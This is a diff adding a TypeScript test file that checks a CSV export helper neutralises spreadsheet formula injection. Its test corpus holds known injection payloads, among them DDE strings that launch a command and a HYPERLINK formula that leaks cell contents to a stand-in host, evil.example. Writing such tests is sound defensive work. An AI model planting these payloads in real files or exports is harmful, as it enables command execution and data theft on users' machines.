@@ -1,0 +1,54 @@
+import { parse } from 'csv-parse/sync'
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { csvLine, csvStart } from './csv.ts'
+
+/** What attackers put into names, from OWASP's page on CSV injection and from reports since. */
+const corpus = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?leak="&A1,"Error: click")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '=1+1";=1+1',
+  '=DDE("cmd";"/C calc";"x")',
+  '+12125550100',
+]
+
+const readBack = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true })
+
+describe('a CSV line', () => {
+  test.each(corpus)('never lets %j be taken for a formula', (text) => {
+    const [[first, second] = []] = readBack(csvLine([text, `a,${text}`]))
+    expect(first).toBe(`'${text}`)
+    expect(second).toBe(`a,${text}`)
+  })
+
+  test('carries every text to the reader, whole and in its own field', () => {
+    fc.assert(
+      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 6 }), (texts) => {
+        // A reader may drop a mark at the beginning of a file; here a number stands before it.
+        const [fields] = readBack(csvLine([1, ...texts]))
+        expect(fields!.slice(1).map((text) => text.replace(/^'/, ''))).toEqual(
+          texts.map((text) => text.replace(/^'/, '')),
+        )
+        for (const text of fields!.slice(1)) expect(text).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
+      }),
+      { numRuns: 500 },
+    )
+  })
+
+  test('leaves plain texts, numbers and nothing as they are', () => {
+    expect(csvLine(['Ann', 1.5, -2, null, ''])).toBe('Ann,1.5,-2,,\r\n')
+    expect(csvLine(['a "b"', 'c,d', 'e\nf'])).toBe('"a ""b""","c,d","e\nf"\r\n')
+    expect(readBack(`${csvStart}${csvLine(['é'])}`)).toEqual([['é']])
+  })
+})
